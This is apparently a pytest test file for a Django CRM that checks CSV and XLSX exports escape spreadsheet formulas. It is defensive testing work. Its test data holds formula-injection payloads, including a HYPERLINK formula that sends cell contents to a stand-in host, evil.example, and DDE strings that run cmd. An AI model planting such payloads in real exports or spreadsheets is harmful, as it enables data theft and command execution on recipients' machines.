"""No exported cell can run as a spreadsheet formula: =, +, -, @, tab and CR are neutralised."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from crm import exports
from crm.models import Supporter
from tests.factories import SupporterFactory

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_value_that_could_run_is_prefixed_with_a_quote(value):
    assert exports.escape_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Alice", "a=b", "O'Brien", "", "SW1A 1AA", "1+1"])
def test_ordinary_values_are_left_alone(value):
    assert exports.escape_formula(value) == value


@pytest.fixture
def hostile(db):
    """Supporters whose names a partner (or an attacker) filled with formulas."""
    return [
        SupporterFactory(email=f"h{n}@example.org", first_name=value, last_name=value)
        for n, value in enumerate(DANGEROUS)
    ]


def test_csv_export_escapes_every_dangerous_cell(hostile):
    result = exports.supporters_export(
        supporters=Supporter.objects.all(), columns=["email", "first_name", "last_name"]
    )
    rows = list(csv.reader(io.StringIO(result.content.decode("utf-8-sig"), newline="")))
    names = sorted(row[1] for row in rows[1:])
    assert names == sorted("'" + value for value in DANGEROUS)
    assert all(row[2] == row[1] for row in rows[1:])


def test_xlsx_export_writes_no_formula_cells(hostile):
    result = exports.supporters_export(
        supporters=Supporter.objects.all(), columns=["email", "first_name"], file_format="xlsx"
    )
    book = openpyxl.load_workbook(io.BytesIO(result.content), data_only=False)
    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    # XLSX stores a carriage return as a line feed; the quote is what matters.
    assert sorted(cell.value for cell in cells if cell.column == 2) == sorted(
        "'" + value.replace("\r", "\n") for value in DANGEROUS
    )


def test_partner_sync_export_escapes_formulas(hostile, partner):
    Supporter.objects.update(partner=partner)
    for file_format in ("csv", "xlsx"):
        result = exports.partner_sync_export(partner=partner, file_format=file_format)
        if file_format == "csv":
            text = result.content.decode("utf-8-sig")
            rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
            assert sorted(row[1] for row in rows) == sorted("'" + value for value in DANGEROUS)
        else:
            sheet = openpyxl.load_workbook(io.BytesIO(result.content)).active
            assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_admin_export_escapes_formulas(client, membership_user, hostile):
    client.force_login(membership_user)
    response = client.post(
        reverse("admin:crm_supporter_export"),
        {"resource": "0", "format": "0", "supporterresource_first_name": "on"},
    )
    text = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert "\n=" not in text.replace("\r\n", "\n")


def test_imported_formulas_are_stored_as_text_and_escaped_on_the_way_out(partner_list, interest):
    partner_list(
        'Email,First name\nx@example.org,"=HYPERLINK(""http://evil.example"")"\n',
        interests=[interest],
        confirm=True,
    )
    assert Supporter.objects.get().first_name == '=HYPERLINK("http://evil.example")'
    result = exports.supporters_export(supporters=Supporter.objects.all(), columns=["first_name"])
    assert "'=HYPERLINK" in result.content.decode("utf-8-sig")
